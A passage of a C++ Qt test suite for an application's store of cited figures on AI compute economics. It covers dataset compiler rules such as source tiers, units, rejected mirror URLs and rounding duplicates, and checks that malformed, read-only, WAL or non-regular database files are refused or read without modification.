// Tests for model/store: the compiled store of cited figures, the dataset compiler's rules,
// and how bad store files are refused without being modified.
#include "core/csv.h"
#include "store/bench_history.h"
#include "store/catalog.h"
#include "store/dataset.h"
#include "store/figure_import.h"
#include "store/figure_listing.h"
#include "store/file_checks.h"
#include "store/schema.h"
#include "store/store_file.h"
#include "store/user_store.h"

#include <QCryptographicHash>
#include <QDir>
#include <QElapsedTimer>
#include <QFileInfo>
#include <QProcess>
#include <QFile>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <set>

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace cliff;

class TestStore : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void embeddedStoreWritesNoFile();
    void embeddedStoreOpens();
    void everyFigureHasACitedSource();
    void everyQuoteSpellsItsNumber();
    void noOrphanSources();
    void categoriesAreCovered();
    void seedDisagreementsAreSeparateRows_data();
    void seedDisagreementsAreSeparateRows();
    void roundingsOfOneNumberAreOneFigure();
    void compiledStoreMatchesDatasets();
    void compilerRejectsBadRows_data();
    void compilerRejectsBadRows();
    void badFilesAreRefusedUntouched_data();
    void badFilesAreRefusedUntouched();
    void readOnlyStoreLoads();
    void userStoreIsCreatedAndReopened();
    void userStoreFallsBackInCatalog();
    void readsLeaveTheUserDatabaseUnchanged_data();
    void readsLeaveTheUserDatabaseUnchanged();
    void walDatabaseIsReadWhereNoLogCanBeMade_data();
    void walDatabaseIsReadWhereNoLogCanBeMade();
    void nonRegularFilesAreRefused_data();
    void nonRegularFilesAreRefused();
    void tooLargeFilesAreRefusedUnread();
    void importReadsGoodFiles_data();
    void importReadsGoodFiles();
    void importNamesFileLineAndColumn_data();
    void importNamesFileLineAndColumn();
    void importIsAllOrNothing();
    void importValidRowsOnly();
    void importRoundTripsTheListing();
    void listingIsSpreadsheetSafeAndImportsBack_data();
    void listingIsSpreadsheetSafeAndImportsBack();
    void concurrentImportsShareANewSource_data();
    void concurrentImportsShareANewSource();
    void importHundredThousandRows();
    void userFiguresAreEditedAndDeleted();
    void choicesPickWhatTheModelsRead();
    void userSchemaMigratesFromVersionOne();
    void killedImportLeavesAllOrNone();
    void benchHistoryKeepsRunsAndSamples();
    void benchHistoryRefusesUnknownMeasures();
    void oldBenchRunsMoveToPhysicalCeilings();

private:
    QTemporaryDir m_dir;
    QTemporaryDir m_temp; ///< TMPDIR while the tests run, to see that nothing is left there
    store::Dataset m_shipped;
};

static QByteArray fileHash(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return QCryptographicHash::hash(file.readAll(), QCryptographicHash::Sha256);
}

static void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(bytes);
}

static void execSql(const QString &path, const QStringList &statements)
{
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
        db.setDatabaseName(path);
        QVERIFY(db.open());
        QSqlQuery query(db);
        for (const QString &statement : statements)
            QVERIFY2(query.exec(statement), qPrintable(statement));
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
}

void TestStore::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QVERIFY(m_dir.isValid());
    QVERIFY(m_temp.isValid());
    qputenv("TMPDIR", QFile::encodeName(m_temp.path()));
    auto catalog = store::loadCatalog({}, {});
    QVERIFY2(catalog.ok(), catalog.ok() ? "" : catalog.error().toString().c_str());
    m_shipped = catalog->figures;
}

void TestStore::embeddedStoreOpens()
{
    QVERIFY(m_shipped.figures.size() > 100);
    QVERIFY(m_shipped.sources.size() > 10);
    auto report = store::checkStore(store::embeddedStorePath().value());
    QVERIFY(report.ok());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
    QCOMPARE(report->figureCount, int(m_shipped.figures.size()));
}

void TestStore::everyFigureHasACitedSource()
{
    for (const Figure &figure : m_shipped.figures) {
        const Source *source = m_shipped.findSource(figure.sourceId);
        QVERIFY2(source, figure.id.c_str());
        if (figure.kind != "assumption")
            QVERIFY2(source->url.rfind("http", 0) == 0, figure.id.c_str());
        if (!figure.readIn.empty()) {
            const Source *seed = m_shipped.findSource(figure.readIn);
            QVERIFY2(seed && seed->sourceKind == "seed", figure.id.c_str());
        }
    }
}

void TestStore::everyQuoteSpellsItsNumber()
{
    const auto units = figureUnits();
    for (const Figure &figure : m_shipped.figures) {
        QVERIFY2(std::find(units.begin(), units.end(), figure.unit) != units.end(), figure.id.c_str());
        QVERIFY2(wordCount(figure.quote) <= 25, figure.id.c_str());
        QVERIFY2(figure.quote.find(quotedAsWritten(figure.quoted)) != std::string::npos,
                 figure.id.c_str());
        auto spelled = parseQuotedNumber(figure.quoted);
        QVERIFY2(spelled.has_value(), figure.id.c_str());
        if (figure.unit == "months" && figure.quoted.find("year") != std::string::npos)
            spelled = QuotedNumber{12.0 * spelled->low, 12.0 * spelled->high}; // "two years"
        const double expectedLow = figure.low.value_or(figure.value);
        const double expectedHigh = figure.high.value_or(figure.value);
        QVERIFY2(std::abs(spelled->low - expectedLow) <= 1e-9 * std::max(1.0, std::abs(expectedLow)),
                 figure.id.c_str());
        QVERIFY2(std::abs(spelled->high - expectedHigh) <= 1e-9 * std::max(1.0, std::abs(expectedHigh)),
                 figure.id.c_str());
    }
}

void TestStore::noOrphanSources()
{
    std::set<std::string> cited;
    for (const Figure &figure : m_shipped.figures) {
        cited.insert(figure.sourceId);
        cited.insert(figure.readIn);
        cited.insert(figure.alsoIn.begin(), figure.alsoIn.end());
    }
    for (const Source &source : m_shipped.sources)
        QVERIFY2(cited.count(source.id), source.id.c_str());
}

void TestStore::categoriesAreCovered()
{
    for (std::string_view category : figureCategories()) {
        const bool present = std::any_of(m_shipped.figures.begin(), m_shipped.figures.end(),
                                         [&](const Figure &f) { return f.category == category; });
        QVERIFY2(present, std::string(category).c_str());
    }
}

void TestStore::seedDisagreementsAreSeparateRows_data()
{
    QTest::addColumn<QString>("entity");
    QTest::addColumn<QString>("metricWord");
    QTest::addColumn<QList<double>>("values");
    // The seeds disagree on these numbers; each value must be its own row.
    QTest::newRow("Nvidia one-day loss") << "Nvidia" << "loss" << QList<double>{589e9, 593e9};
}

void TestStore::roundingsOfOneNumberAreOneFigure()
{
    // The V3 report's $5.576M is rounded by every seed ($5.5M to $6M): one figure, the seeds
    // listed where else it appears.
    std::vector<const Figure *> runCosts;
    for (const Figure &f : m_shipped.figures) {
        if (f.entity == "DeepSeek-V3" && f.metric.find("final run") != std::string::npos
            && f.value >= 5.5e6 && f.value <= 6e6)
            runCosts.push_back(&f);
    }
    QCOMPARE(runCosts.size(), std::size_t(1));
    QCOMPARE(runCosts.front()->value, 5.576e6);
    QCOMPARE(runCosts.front()->sourceId, std::string("deepseek-v3-report"));
    for (const char *seed : {"seed-compute-cliff", "seed-end-of-an-era", "seed-deep-impact"}) {
        const auto &also = runCosts.front()->alsoIn;
        QVERIFY2(std::find(also.begin(), also.end(), seed) != also.end(), seed);
    }
}

void TestStore::seedDisagreementsAreSeparateRows()
{
    QFETCH(QString, entity);
    QFETCH(QString, metricWord);
    QFETCH(QList<double>, values);
    for (double value : values) {
        const bool found = std::any_of(m_shipped.figures.begin(), m_shipped.figures.end(), [&](const Figure &f) {
            return QString::fromStdString(f.entity) == entity
                   && QString::fromStdString(f.metric).contains(metricWord, Qt::CaseInsensitive)
                   && std::abs(f.value - value) <= 1e-9 * value;
        });
        QVERIFY2(found, qPrintable(QString::number(value, 'g', 10)));
    }
}

void TestStore::compiledStoreMatchesDatasets()
{
    auto text = store::readDatasetDir(CLIFF_DATASETS_DIR);
    QVERIFY2(text.ok(), text.ok() ? "" : text.error().toString().c_str());
    QCOMPARE(text->figures.size(), m_shipped.figures.size());
    QCOMPARE(text->sources.size(), m_shipped.sources.size());
    for (const Figure &figure : text->figures) {
        const Figure *stored = m_shipped.findFigure(figure.id);
        QVERIFY2(stored, figure.id.c_str());
        QVERIFY2(*stored == figure, figure.id.c_str());
    }
}

static const char *const kSourceHeader = "id,title,publisher,url,published,source_kind,tier,note\n";
static const char *const kFigureHeader =
    "id,category,entity,metric,value,low,high,unit,period,kind,source_id,read_in,quoted,quote,note,also_in\n";
static const char *const kGoodSource = "src,A report,Someone,https://example.org/r,2025-01,report,primary,\n";
static const char *const kGoodFigure =
    "f1,capex,Acme,Capex,5000000000,,,USD,2025,reported,src,,$5 billion,Acme spent $5 billion,,\n";

void TestStore::compilerRejectsBadRows_data()
{
    QTest::addColumn<QByteArray>("sources");
    QTest::addColumn<QByteArray>("figures");
    QTest::addColumn<int>("line");       // 0: the error is about the dataset as a whole
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("reason"); // a word the message must hold (the rule's name)
    const QByteArray s = QByteArray(kSourceHeader) + kGoodSource;
    const QByteArray f = QByteArray(kFigureHeader) + kGoodFigure;
    const QByteArray sourceHeader(kSourceHeader);
    const QByteArray figureHeader(kFigureHeader);
    QTest::newRow("good") << s << f << -1 << "" << "";
    QTest::newRow("wrong header") << s << QByteArray("id,value\n1,2\n") << 1 << "" << "header";
    QTest::newRow("header before also_in") << s << QByteArray(kFigureHeader).replace(",also_in", "") + QByteArray(kGoodFigure).replace(",,\n", ",\n") << 1 << "" << "header";
    QTest::newRow("too few fields") << s << f + "f2,capex\n" << 3 << "" << "fields";
    QTest::newRow("comma decimal") << s << f + "f2,capex,Acme,Capex,\"5,5\",,,USD,2025,reported,src,,$5 billion,x $5 billion,,\n" << 3 << "value" << "number";
    QTest::newRow("bad unit") << s << f + "f2,capex,Acme,Capex,5000000000,,,USD bn,2025,reported,src,,$5 billion,x $5 billion,,\n" << 3 << "unit" << "unit";
    QTest::newRow("unknown source") << s << f + "f2,capex,Acme,Capex,5000000000,,,USD,2025,reported,nope,,$5 billion,x $5 billion,,\n" << 0 << "source_id" << "unknown";
    QTest::newRow("duplicate id") << s << f + kGoodFigure << 0 << "id" << "duplicate";
    QTest::newRow("source without url") << sourceHeader + "src,A,B,,2025,report,primary,\n" << f << 2 << "url" << "URL";
    QTest::newRow("orphan source") << s + "other,B,C,https://example.org/b,2025,news,secondary,\n" << f << 0 << "id" << "cited by no figure";
    QTest::newRow("read in a non-seed") << s << figureHeader + "f1,capex,Acme,Capex,5000000000,,,USD,2025,reported,src,src,$5 billion,Acme spent $5 billion,,\n" << 0 << "read_in" << "seed";

    // Tiers: the vocabulary, who may be primary, seeds.
    QTest::newRow("unknown tier") << sourceHeader + "src,A report,Someone,https://example.org/r,2025-01,report,gold,\n" << f << 2 << "tier" << "gold";
    QTest::newRow("news as primary") << sourceHeader + "src,A story,Wire,https://example.org/r,2025-01,news,primary,\n" << f << 2 << "tier" << "cannot be primary";
    QTest::newRow("seed above other") << s + "essay,An essay,Blog,https://example.org/e,2025-01,seed,secondary,\n" << figureHeader + "f1,capex,Acme,Capex,5000000000,,,USD,2025,reported,src,essay,$5 billion,Acme spent $5 billion,,\n" << 3 << "tier" << "seed";
    QTest::newRow("reported on a tier-other source") << sourceHeader + "src,A post,Blog,https://example.org/r,2025-01,analysis,other,\n" << f << 2 << "kind" << "reported-needs-primary-or-secondary";
    QTest::newRow("estimate on a tier-other source") << sourceHeader + "src,A post,Blog,https://example.org/r,2025-01,analysis,other,\n" << QByteArray(f).replace("reported", "estimate") << -1 << "" << "";
    QTest::newRow("reported on secondary") << sourceHeader + "src,A story,Wire,https://example.org/r,2025-01,news,secondary,\n" << f << -1 << "" << "";

    // Mirrors and proxies are never sources.
    QTest::newRow("bare IPv4 host") << sourceHeader + "src,A story,Wire,http://3.127.128.221/?p=1254454,2025-01,news,secondary,\n" << f << 2 << "url" << "bare IP";
    QTest::newRow("bare IPv6 host") << sourceHeader + "src,A story,Wire,http://[2001:db8::1]/x,2025-01,news,secondary,\n" << f << 2 << "url" << "bare IP";
    QTest::newRow("reddit front end") << sourceHeader + "src,A thread,Reddit,https://redlib.example.dev/r/x,2025-01,news,other,\n" << f << 2 << "url" << "front end";
    QTest::newRow("copy site") << sourceHeader + "src,A story,Wire,https://web-origin.lbkrs.com/news/1,2025-01,news,secondary,\n" << f << 2 << "url" << "copies";
    QTest::newRow("copy site subdomain") << sourceHeader + "src,A story,Wire,https://1375.topnews.com/en/?a=1,2025-01,news,secondary,\n" << f << 2 << "url" << "copies";
    QTest::newRow("press-release feed") << sourceHeader + "src,Results,Acme (Business Wire),https://markets.financialcontent.com/x/article/bizwire-1,2025-01,press_release,primary,\n" << f << 2 << "url" << "copies";
    QTest::newRow("lookalike host is fine") << sourceHeader + "src,A story,Wire,https://notvuink.com/a,2025-01,news,secondary,\n" << f << -1 << "" << "";
    QTest::newRow("publisher names a mirror") << sourceHeader + "src,A story,Reuters (via mirror),https://example.org/r,2025-01,news,secondary,\n" << f << 2 << "publisher" << "mirror";

    // One number, one figure; rivals that really disagree stay.
    const QByteArray cost = figureHeader + "v3,training_cost,DeepSeek-V3,Final run cost,5576000,,,USD,2024-12,reported,src,,$5.576M,costs only $5.576M,,\n";
    QTest::newRow("a rounding restated") << sourceHeader + "src,A report,Lab,https://example.org/r,2025-01,paper,primary,\n"
                                         << cost + "v3b,training_cost,DeepSeek-V3,Final run cost,5600000,,,USD,2024-12,reported,src,,$5.6M,about $5.6M,,\n" << 3 << "value" << "one-number-one-figure";
    QTest::newRow("a coarser rounding restated") << sourceHeader + "src,A report,Lab,https://example.org/r,2025-01,paper,primary,\n"
                                                 << cost + "v3b,training_cost,DeepSeek-V3,Final run cost,6000000,,,USD,2024-12,estimate,src,,$6 million,about $6 million,,\n" << 3 << "value" << "one-number-one-figure";
    QTest::newRow("the same number twice") << s << f + QByteArray(kGoodFigure).replace("f1,", "f2,") << 3 << "value" << "one-number-one-figure";
    QTest::newRow("rivals that disagree") << s << f + "f2,capex,Acme,Capex,7000000000,,,USD,2025,reported,src,,$7 billion,Acme spent $7 billion,,\n" << -1 << "" << "";
    QTest::newRow("one value in two periods") << s << f + "f2,capex,Acme,Capex,5000000000,,,USD,2024,reported,src,,$5 billion,Acme spent $5 billion,,\n" << -1 << "" << "";
    QTest::newRow("restatement listed in also_in") << s + "copy,A story,Wire,https://example.org/c,2025-01,news,secondary,\n" << QByteArray(f).replace("billion,,\n", "billion,,copy\n") << -1 << "" << "";
    QTest::newRow("also_in names no source") << s << QByteArray(f).replace("billion,,\n", "billion,,nope\n") << 2 << "also_in" << "also-in-resolves";
    QTest::newRow("also_in repeats source_id") << s << QByteArray(f).replace("billion,,\n", "billion,,src\n") << 2 << "also_in" << "already";

    // Units: one per metric, durations not dates, years quoted for a metric in months.
    QTest::newRow("two units for one metric") << s << f + "f2,capex,Other,Capex,5,,,x,2025,reported,src,,5x,grew 5x,,\n" << 3 << "unit" << "one-unit-per-metric";
    QTest::newRow("a calendar year as a duration") << s << f + "f2,leaderboard,Qwen,Year it passed Llama,2025,,,years,2025-01,reported,src,,2025,in 2025 Qwen passed Llama,,\n" << 3 << "unit" << "duration";
    QTest::newRow("a year quoted for months") << s << f + "f2,leaderboard,Open models,Gap behind closed models,12,,,months,2025-01,estimate,src,,one year,trail by one year,,\n" << -1 << "" << "";
    QTest::newRow("years quoted, value not converted") << s << f + "f2,leaderboard,Open models,Gap behind closed models,1,,,months,2025-01,estimate,src,,one year,trail by one year,,\n" << 3 << "quoted" << "does not match";

    // A period is what the number refers to: nothing is reported before it began.
    QTest::newRow("reported before its period") << s << f + "f2,capex,Acme,Capex,6000000000,,,USD,2026,reported,src,,$6 billion,Acme spent $6 billion,,\n" << 3 << "period" << "period-is-what-the-number-refers-to";
    QTest::newRow("guidance ahead of its period") << s << f + "f2,capex,Acme,Capex guidance,6000000000,,,USD,2026,guidance,src,,$6 billion,Acme plans $6 billion,,\n" << -1 << "" << "";
}

void TestStore::compilerRejectsBadRows()
{
    QFETCH(QByteArray, sources);
    QFETCH(QByteArray, figures);
    QFETCH(int, line);
    QFETCH(QString, field);
    QFETCH(QString, reason);
    QTemporaryDir dir;
    QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("sources")));
    QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("figures")));
    writeFile(dir.filePath(QStringLiteral("sources/s.csv")), sources);
    writeFile(dir.filePath(QStringLiteral("figures/f.csv")), figures);
    auto dataset = store::readDatasetDir(dir.path().toStdString());
    if (line < 0) {
        QVERIFY2(dataset.ok(), dataset.ok() ? "" : dataset.error().toString().c_str());
        return;
    }
    QVERIFY(!dataset.ok());
    QCOMPARE(dataset.error().line, line);
    if (line > 0)
        QVERIFY(QString::fromStdString(dataset.error().file).endsWith(u".csv"));
    if (!field.isEmpty())
        QCOMPARE(QString::fromStdString(dataset.error().field), field);
    QVERIFY2(QString::fromStdString(dataset.error().message).contains(reason),
             dataset.error().toString().c_str());
}

void TestStore::badFilesAreRefusedUntouched_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("reason");
    const QString good = store::embeddedStorePath().value();
    QFile original(good);
    QVERIFY(original.open(QIODevice::ReadOnly));
    const QByteArray bytes = original.readAll();

    auto make = [this](const QString &name, const QByteArray &content) {
        const QString path = m_dir.filePath(name);
        writeFile(path, content);
        return path;
    };
    QTest::newRow("missing") << m_dir.filePath(QStringLiteral("absent.sqlite")) << "no such file";
    QTest::newRow("empty") << make(QStringLiteral("empty.sqlite"), {}) << "empty";
    QTest::newRow("text") << make(QStringLiteral("text.sqlite"), "id,value\n1,2\n") << "not an SQLite";
    QTest::newRow("truncated") << make(QStringLiteral("cut.sqlite"), bytes.left(bytes.size() / 2)) << "truncated";
    QByteArray garbled = bytes;
    for (qsizetype i = 4096; i < garbled.size(); i += 7)
        garbled[i] = char(garbled[i] ^ 0x5A);
    QTest::newRow("garbled pages") << make(QStringLiteral("garbled.sqlite"), garbled) << "";

    const QString foreign = m_dir.filePath(QStringLiteral("foreign.sqlite"));
    execSql(foreign, {QStringLiteral("CREATE TABLE t(x)")});
    QTest::newRow("other application") << foreign << "not a Compute Cliff store";

    const QString newer = make(QStringLiteral("newer.sqlite"), bytes);
    execSql(newer, {QStringLiteral("PRAGMA user_version = 99")});
    QTest::newRow("newer schema") << newer << "newer";
}

void TestStore::badFilesAreRefusedUntouched()
{
    QFETCH(QString, path);
    QFETCH(QString, reason);
    const QByteArray before = fileHash(path);

    const bool exists = QFile::exists(path);
    auto loaded = store::loadStore(path);
    auto checked = store::checkStore(path);
    const bool checkFailed = !checked.ok() || !checked->problems.empty();
    QVERIFY(checkFailed);
    if (exists) // a missing user database is created on first use, which is right
        QVERIFY(!store::UserStore::open(path).ok());
    if (!reason.isEmpty()) {
        QVERIFY(!loaded.ok());
        QVERIFY2(QString::fromStdString(loaded.error().message).contains(reason),
                 loaded.error().message.c_str());
        QCOMPARE(QString::fromStdString(loaded.error().file), path);
    }
    QCOMPARE(fileHash(path), before);
    QVERIFY(!QFile::exists(path + QStringLiteral("-wal")));
}

void TestStore::readOnlyStoreLoads()
{
    const QString path = m_dir.filePath(QStringLiteral("readonly.sqlite"));
    QVERIFY(QFile::copy(store::embeddedStorePath().value(), path));
    QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::ReadGroup);
    const QByteArray before = fileHash(path);
    auto loaded = store::loadStore(path);
    QVERIFY(loaded.ok());
    QCOMPARE(loaded->figures.size(), m_shipped.figures.size());
    QCOMPARE(fileHash(path), before);
}

void TestStore::userStoreIsCreatedAndReopened()
{
    const QString path = m_dir.filePath(QStringLiteral("nested/user.sqlite"));
    {
        auto user = store::UserStore::open(path);
        QVERIFY2(user.ok(), user.ok() ? "" : user.error().toString().c_str());
        QVERIFY(user->saveScenario("bear case", R"({"wacc": 0.12})").ok());
        QVERIFY(user->saveScenario("bull case", R"({"wacc": 0.07})").ok());
        QVERIFY(user->saveScenario("bear case", R"({"wacc": 0.13})").ok());
    }
    auto reopened = store::UserStore::open(path);
    QVERIFY(reopened.ok());
    auto names = reopened->scenarioNames();
    QVERIFY(names.ok());
    QCOMPARE(names->size(), std::size_t(2));
    QCOMPARE(names->front(), std::string("bear case"));
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QCOMPARE(report->schemaVersion, store::kUserSchemaVersion);
    QVERIFY(report->problems.empty());
}

void TestStore::userStoreFallsBackInCatalog()
{
    const QString bad = m_dir.filePath(QStringLiteral("bad-user.sqlite"));
    writeFile(bad, "not a database at all, but long enough to look like one if you squint....");
    const QByteArray before = fileHash(bad);
    auto catalog = store::loadCatalog({}, bad);
    QVERIFY(catalog.ok());
    QVERIFY(catalog->userStoreProblem.has_value());
    QCOMPARE(catalog->figures.figures.size(), m_shipped.figures.size());
    QCOMPARE(fileHash(bad), before);
}

void TestStore::embeddedStoreWritesNoFile()
{
    // initTestCase loaded the embedded store with TMPDIR pointing into m_temp; a killed process
    // cannot clean up, so nothing may be written there in the first place.
    auto report = store::checkStore(store::embeddedStorePath().value());
    QVERIFY(report.ok());
    auto again = store::loadCatalog({}, {});
    QVERIFY(again.ok());
    QCOMPARE(again->figures.figures.size(), m_shipped.figures.size());
    QCOMPARE(QDir(m_temp.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::System
                                           | QDir::NoDotAndDotDot),
             QStringList());
    // The shipped store stays read-only.
    QVERIFY(!store::UserStore::open(store::embeddedStorePath().value()).ok());
}

/// A copy of the user-database fixture `name` alone in a new folder of `root`, named `folder`.
static QString fixtureCopy(const QTemporaryDir &root, const QString &folder, const QString &name)
{
    const QString dir = root.filePath(folder);
    if (!QDir().mkpath(dir))
        return {};
    const QString path = dir + QStringLiteral("/user.sqlite");
    QFile::remove(path);
    if (!QFile::copy(QStringLiteral(CLIFF_USER_DB_FIXTURES "/") + name, path))
        return {};
    QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::WriteOwner);
    return path;
}

static QStringList folderListing(const QString &path)
{
    return QFileInfo(path).dir().entryList(QDir::AllEntries | QDir::Hidden | QDir::System
                                           | QDir::NoDotAndDotDot);
}

void TestStore::readsLeaveTheUserDatabaseUnchanged_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<int>("userFigures"); // -1: the database is refused
    QTest::addColumn<QString>("problem");
    QTest::addColumn<bool>("wal");        // SQLite keeps -wal and -shm beside a WAL file it reads
    QTest::newRow("version 3, rollback journal")
        << fixtureCopy(m_dir, QStringLiteral("r-v3"), QStringLiteral("v3_delete_journal.sqlite"))
        << 6 << QString() << false;
    QTest::newRow("version 1, not migrated by a read")
        << fixtureCopy(m_dir, QStringLiteral("r-v1"), QStringLiteral("v1_one_figure.sqlite"))
        << 1 << QString() << false;
    QTest::newRow("version 3, WAL")
        << fixtureCopy(m_dir, QStringLiteral("r-wal"), QStringLiteral("v3_wal.sqlite")) << 6
        << QString() << true;

    const QString newer =
        fixtureCopy(m_dir, QStringLiteral("r-newer"), QStringLiteral("v3_delete_journal.sqlite"));
    execSql(newer, {QStringLiteral("PRAGMA user_version = 99")});
    QTest::newRow("newer schema") << newer << -1 << "newer" << false;

    QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("r-empty"))));
    const QString noTables = m_dir.filePath(QStringLiteral("r-empty/user.sqlite"));
    execSql(noTables, {QStringLiteral("PRAGMA application_id = 1128483910"),
                       QStringLiteral("PRAGMA user_version = 3")});
    QTest::newRow("our id, no tables") << noTables << -1 << "no table 'sources'" << false;
}

void TestStore::readsLeaveTheUserDatabaseUnchanged()
{
    QFETCH(QString, path);
    QFETCH(int, userFigures);
    QFETCH(QString, problem);
    QFETCH(bool, wal);
    QVERIFY(!path.isEmpty());
    const QByteArray before = fileHash(path);
    const QStringList besideBefore = folderListing(path);

    // What the GUI and the commands read: the catalog, the benchmark history, check-db.
    auto catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok());
    auto reader = store::UserStore::openForReading(path);
    auto history = store::BenchHistory::openForReading(path);
    auto checked = store::checkStore(path);
    if (userFigures < 0) {
        QVERIFY(catalog->userStoreProblem.has_value());
        QVERIFY2(QString::fromStdString(catalog->userStoreProblem->message).contains(problem),
                 catalog->userStoreProblem->message.c_str());
        QVERIFY(!reader.ok());
        QVERIFY(!history.ok());
        // A refused write changes nothing either.
        QVERIFY(!store::UserStore::open(path).ok());
        QVERIFY(!store::BenchHistory::open(path).ok());
    } else {
        QVERIFY2(!catalog->userStoreProblem,
                 catalog->userStoreProblem ? catalog->userStoreProblem->toString().c_str() : "");
        const auto own = std::count_if(catalog->figures.figures.begin(), catalog->figures.figures.end(),
                                       [](const Figure &figure) { return figure.userOwned; });
        QCOMPARE(int(own), userFigures);
        QVERIFY(reader.ok());
        QVERIFY(reader->figures().ok());
        QVERIFY(reader->choices().ok());
        QVERIFY(reader->scenarioNames().ok());
        // A store opened for reading refuses to write.
        QVERIFY(!reader->saveScenario("refused", "{}").ok());
        QVERIFY(!reader->deleteFigure("none").ok());
        QVERIFY(history.ok());
        QVERIFY(history->runs().ok());
        QVERIFY(history->latestCost().ok());
        QVERIFY(checked.ok());
    }
    QCOMPARE(fileHash(path), before);
    if (!wal)
        QCOMPARE(folderListing(path), besideBefore);
}

void TestStore::walDatabaseIsReadWhereNoLogCanBeMade_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("problem"); // empty: the figures are read

    // A WAL database needs a -wal file beside it even to be read. Where none can be made (a
    // read-only folder; here also a -wal link into a missing folder, which root cannot write
    // through either) the file itself is complete and is read as it is.
    const QString dangling =
        fixtureCopy(m_dir, QStringLiteral("w-dangling"), QStringLiteral("v3_wal.sqlite"));
    QVERIFY(QFile::link(m_dir.filePath(QStringLiteral("w-dangling/missing/wal")),
                        dangling + QStringLiteral("-wal")));
    QTest::newRow("no -wal can be made") << dangling << QString();

    const QString readOnly =
        fixtureCopy(m_dir, QStringLiteral("w-read-only"), QStringLiteral("v3_wal.sqlite"));
    QVERIFY(QFile::setPermissions(QFileInfo(readOnly).absolutePath(),
                                  QFileDevice::ReadOwner | QFileDevice::ExeOwner));
    QTest::newRow("read-only folder") << readOnly << QString();

    // A -wal that exists but cannot be opened may hold committed pages: refused, with the reason.
    const QString blocked =
        fixtureCopy(m_dir, QStringLiteral("w-blocked"), QStringLiteral("v3_wal.sqlite"));
    QVERIFY(QDir().mkpath(blocked + QStringLiteral("-wal")));
    QTest::newRow("-wal cannot be opened") << blocked << "unable to open";
}

void TestStore::walDatabaseIsReadWhereNoLogCanBeMade()
{
    QFETCH(QString, path);
    QFETCH(QString, problem);
    const QString folder = QFileInfo(path).absolutePath();
    if (QTest::currentDataTag() == QByteArray("read-only folder") && ::geteuid() == 0) {
        QFile::setPermissions(folder, QFileDevice::ReadOwner | QFileDevice::WriteOwner
                                          | QFileDevice::ExeOwner);
        QSKIP("root writes into a read-only folder; test_cli runs this case as another user");
    }
    const QByteArray before = fileHash(path);
    auto catalog = store::loadCatalog({}, path);
    auto history = store::BenchHistory::openForReading(path);
    auto checked = store::checkStore(path);
    QFile::setPermissions(folder, QFileDevice::ReadOwner | QFileDevice::WriteOwner
                                      | QFileDevice::ExeOwner);
    QVERIFY(catalog.ok());
    QCOMPARE(fileHash(path), before);
    if (!problem.isEmpty()) {
        QVERIFY(catalog->userStoreProblem.has_value());
        const std::string message = catalog->userStoreProblem->message;
        QVERIFY2(QString::fromStdString(message).contains(problem), message.c_str());
        QVERIFY(!history.ok());
        return;
    }
    QVERIFY2(!catalog->userStoreProblem,
             catalog->userStoreProblem ? catalog->userStoreProblem->toString().c_str() : "");
    QCOMPARE(catalog->figures.figures.size(), m_shipped.figures.size() + 6);
    QVERIFY(history.ok());
    QVERIFY(history->runs().ok());
    QVERIFY2(checked.ok(), checked.ok() ? "" : checked.error().toString().c_str());
    QVERIFY(checked->problems.empty());
}

void TestStore::nonRegularFilesAreRefused_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("kind");
    const QString fifo = m_dir.filePath(QStringLiteral("pipe.sqlite"));
    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0600) == 0);
    QTest::newRow("FIFO") << fifo << "a FIFO";
    const QString folder = m_dir.filePath(QStringLiteral("folder.sqlite"));
    QVERIFY(QDir().mkpath(folder));
    QTest::newRow("folder") << folder << "a folder";
    QTest::newRow("device") << QStringLiteral("/dev/null") << "a device";
}

void TestStore::nonRegularFilesAreRefused()
{
    QFETCH(QString, path);
    QFETCH(QString, kind);
    // Nothing may open a FIFO to read it: that waits for a writer for ever.
    const QString expected = QStringLiteral("not a regular file (%1)").arg(kind);
    const auto refused = [&](const Error &error) {
        QVERIFY2(QString::fromStdString(error.message).contains(expected), error.toString().c_str());
        QCOMPARE(QString::fromStdString(error.file), path);
    };
    refused(store::checkFileToRead(path).error());
    refused(store::readSmallFile(path, 1 << 20).error());
    refused(store::loadStore(path).error());
    refused(store::checkStore(path).error());
    refused(store::UserStore::openForReading(path).error());
    refused(store::UserStore::open(path).error());
    refused(store::BenchHistory::openForReading(path).error());
    refused(store::BenchHistory::open(path).error());
    refused(store::checkImportFile(path, m_shipped, {}).error());
    auto catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok() && catalog->userStoreProblem);
    refused(*catalog->userStoreProblem);
}

void TestStore::tooLargeFilesAreRefusedUnread()
{
    const QString path = m_dir.filePath(QStringLiteral("eleven.txt"));
    writeFile(path, "eleven byte");
    auto exact = store::readSmallFile(path, 11);
    QVERIFY(exact.ok());
    QCOMPARE(exact.value(), QByteArray("eleven byte"));
    auto tooLarge = store::readSmallFile(path, 10);
    QVERIFY(!tooLarge.ok());
    QVERIFY2(QString::fromStdString(tooLarge.error().message).contains(u"too large (11 bytes"),
